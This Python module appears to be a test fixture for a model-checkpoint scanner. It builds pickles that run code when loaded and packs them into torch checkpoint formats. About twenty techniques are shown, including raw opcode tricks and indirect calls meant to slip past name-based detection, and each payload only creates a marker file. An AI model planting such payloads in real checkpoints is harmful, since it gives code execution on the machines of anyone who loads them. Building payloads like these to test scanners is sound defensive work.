"""Planted payloads: pickles that write a file when they are loaded, and the checkpoints that carry them.

Every payload here really runs under Python's own `pickle.loads`; `test_door.py` shows that first.
"""

from __future__ import annotations

import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any


class _Call:
    """Pickled as the call of `function` with `arguments`."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.parts = (function, arguments)

    def __reduce__(self):
        return self.parts


def _dumped(function: Callable[..., Any], *arguments: Any, protocol: int = 2) -> bytes:
    return pickle.dumps({"weight": _Call(function, *arguments)}, protocol=protocol)


def _touch(marker: Path) -> str:
    return f"touch {marker}"


def _write(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _system(marker: Path) -> bytes:
    import os

    return _dumped(os.system, _touch(marker))


def _stack_global(marker: Path) -> bytes:
    import subprocess

    return _dumped(subprocess.check_output, ["touch", str(marker)], protocol=4)


def _dotted(marker: Path) -> bytes:
    """Protocol 4 walks dots in a name: it looks like a module of torch."""
    return (b"\x80\x04" + _text("torch") + _text("serialization.os.system") + b"\x93" + _text(_touch(marker))
            + b"\x85R.")  # fmt: skip


def _inst(marker: Path) -> bytes:
    return b"(S'" + _touch(marker).encode() + b"'\nios\nsystem\n."


def _obj(marker: Path) -> bytes:
    return b"(cos\nsystem\n" + _text(_touch(marker)) + b"o."


def _build(marker: Path) -> bytes:
    """BUILD calls __setstate__, which an earlier BUILD has put into the object."""
    return (b"\x80\x02ctypes\nSimpleNamespace\n)\x81}" + _text("__setstate__") + b"cos\nsystem\nsb"
            + _text(_touch(marker)) + b"b.")  # fmt: skip


def _newobj(marker: Path) -> bytes:
    """NEWOBJ of a tuple consumes a map, and a map calls its function."""
    return (b"\x80\x02cbuiltins\ntuple\ncbuiltins\nmap\ncos\nsystem\n" + _text(_touch(marker))
            + b"\x85\x86\x81\x85\x81.")  # fmt: skip


def _chain(marker: Path) -> bytes:
    """getattr(import_module("os"), "system") names no dangerous function in the file."""
    import importlib

    return _dumped(_Caller(getattr, _Call(importlib.import_module, "os"), "system"), _touch(marker))


class _Caller(_Call):
    """A call whose result is called in turn."""

    def __call__(self) -> None:
        """pickle wants a callable."""


def _runpy(marker: Path) -> bytes:
    import runpy

    script = marker.with_suffix(".py")
    script.write_text(_write(marker), encoding="utf-8")
    return _dumped(runpy.run_path, str(script))


def _webbrowser(marker: Path) -> bytes:
    """A "browser" is any command line."""
    import webbrowser

    return _dumped(_Caller(getattr, _Call(webbrowser.get, "touch %s"), "open"), str(marker))


def _within(marker: Path) -> bytes:
    return _dumped(pickle.loads, _system(marker))


def _timeit(marker: Path) -> bytes:
    import timeit

    return _dumped(timeit.timeit, _write(marker), "pass", timeit.default_timer, 1)


def _mkdir(marker: Path) -> bytes:
    import os

    return _dumped(os.mkdir, str(marker))


def _partial(marker: Path) -> bytes:
    """BUILD gives a partial its function, REDUCE calls it."""
    import functools
    import os

    return _dumped(functools.partial(os.system, _touch(marker)))


def _numpy_objects(marker: Path) -> bytes:
    """An array of objects, as training programs leave them in checkpoints; one of its objects is a call."""
    import os

    import numpy as np

    array = np.empty(1, dtype=object)
    array[0] = _Call(os.system, _touch(marker))
    return pickle.dumps({"mean": array}, protocol=2)


def _torch_hub(marker: Path) -> bytes:
    """torch.hub runs the hubconf.py of a folder."""
    import torch

    folder = marker.parent / "hub"
    folder.mkdir(exist_ok=True)
    text = _write(marker) + "\n\ndef model():\n    return 0\n"
    (folder / "hubconf.py").write_text(text, encoding="utf-8")
    return _dumped(torch.hub._load_local, str(folder), "model")


def _torch_bytes(marker: Path) -> bytes:
    """torch's own function that unpickles bytes, in a name that begins as harmless ones do."""
    import torch

    return _dumped(torch.storage._load_from_bytes, zip_checkpoint(_system(marker)))


PAYLOADS: dict[str, Callable[[Path], bytes]] = {
    "os.system by REDUCE": _system,
    "builtins.eval": lambda marker: _dumped(eval, _write(marker)),
    "builtins.exec in protocol 0": lambda marker: _dumped(exec, _write(marker), protocol=0),
    "subprocess by STACK_GLOBAL": _stack_global,
    "a dotted name below torch": _dotted,
    "INST": _inst,
    "OBJ": _obj,
    "BUILD with __setstate__": _build,
    "NEWOBJ over map": _newobj,
    "getattr over import_module": _chain,
    "runpy": _runpy,
    "webbrowser": _webbrowser,
    "a pickle within the pickle": _within,
    "timeit": _timeit,
    "os.mkdir": _mkdir,
    "functools.partial": _partial,
    "an array of objects": _numpy_objects,
    "torch.hub": _torch_hub,
    "torch.storage._load_from_bytes": _torch_bytes,
}


def zip_checkpoint(raw: bytes) -> bytes:
    """`raw` as the object of a checkpoint of torch 1.6 and later."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", raw)
        archive.writestr("archive/byteorder", b"little")
        archive.writestr("archive/data/0", b"\0" * 16)
        archive.writestr("archive/version", b"3\n")
    return stream.getvalue()


def legacy_checkpoint(raw: bytes) -> bytes:
    """`raw` as the object of a checkpoint of torch before 1.6."""
    system = {
        "protocol_version": 1001,
        "little_endian": True,
        "type_sizes": {"short": 2, "int": 4, "long": 4},
    }
    head = [0x1950A86A20F9469CFC6C, 1001, system]
    return b"".join(pickle.dumps(part, protocol=2) for part in head) + raw + pickle.dumps([], protocol=2)


def tar_checkpoint(raw: bytes) -> bytes:
    """`raw` in every member of a checkpoint of torch before 2017."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name in ("storages", "tensors", "pickle", "sys_info"):
            member = tarfile.TarInfo(name)
            member.size = len(raw)
            archive.addfile(member, io.BytesIO(raw))
    return stream.getvalue()


CARRIERS: dict[str, Callable[[bytes], bytes]] = {
    "bare": bytes,
    "zip": zip_checkpoint,
    "legacy": legacy_checkpoint,
    "tar": tar_checkpoint,
}
